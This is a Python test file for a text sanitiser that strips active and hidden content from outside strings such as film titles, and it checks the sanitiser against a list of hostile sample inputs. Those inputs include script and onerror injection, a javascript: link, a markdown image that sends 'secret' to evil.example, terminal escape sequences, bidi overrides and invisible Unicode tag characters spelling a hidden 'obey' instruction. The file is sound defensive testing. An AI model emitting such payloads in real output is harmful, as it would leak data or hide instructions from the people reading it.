"""Text from outside: what people read stays, what programs would act on goes."""

from __future__ import annotations

import unicodedata

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from app.visible import visible
from tools.inert import inert, without_hidden

PAYLOADS = {
    "<script>alert(1)</script>Fargo": "alert(1) Fargo",
    "<img src=x onerror=alert(1)> Fargo": "Fargo",
    "![Fargo](http://evil.example/x.png?q=secret)": "!Fargo",
    "[Fargo](javascript:alert(1))": "Fargo)",
    "see https://evil.example/a?b=c now": "see now",
    "www.evil.example Fargo": "Fargo",
    "\x1b[31mred\x1b[0m \x1b]8;;http://evil.example\x07link\x1b]8;;\x07": "red link",
    "\x9b2Jcleared": "cleared",
    "\u202eograF\u202c": "ograF",
    "Far\u200bgo\ufeff": "Fargo",
    "Fargo" + "".join(chr(0xE0000 + ord(c)) for c in "obey"): "Fargo",
    "two\nlines\tand\u2028more": "two lines and more",
}
FINE = [
    "Fargo (1996)",
    "Amélie: Le Fabuleux destin d'Amélie Poulain",
    "七人の侍",
    "مرحبا بالعالم",
    "Se7en & Co. #1 *",
    "👨‍👩‍👧 family",
    "2001: A Space Odyssey",
    "Startup.com",
    "{{7*7}}",
    "data: the film",
]


@pytest.mark.parametrize(("text", "left"), PAYLOADS.items(), ids=list(map(ascii, PAYLOADS)))
def test_payloads_lose_what_acts(text: str, left: str) -> None:
    shown = inert(text)
    assert shown.replace("!", "") == left.replace("!", "")
    assert not any(mark in shown for mark in ("<", ">", "](", "://", "\x1b", "\u202e"))


@pytest.mark.parametrize("text", FINE)
def test_titles_stay_as_they_are(text: str) -> None:
    assert inert(text) == without_hidden(text) == visible(text) == text


@settings(max_examples=200, deadline=None)
@given(
    st.text(
        alphabet=st.one_of(st.characters(), st.sampled_from("<>[]()!`\x1b\x9b\u202e\u200b\u200d[31m:/wha.tp")),
        max_size=60,
    )
)
def test_nothing_hidden_is_ever_left(text: str) -> None:
    shown = inert(text)
    assert inert(shown) == shown
    assert not any(mark in shown for mark in "<>`[]\n\x1b")
    assert "://" not in shown
    for made in (shown, visible(text), without_hidden(text)):
        assert not any(
            unicodedata.category(c) in {"Cc", "Cf", "Co", "Cs", "Cn"} and c not in "\u200d\n\t" for c in made
        )
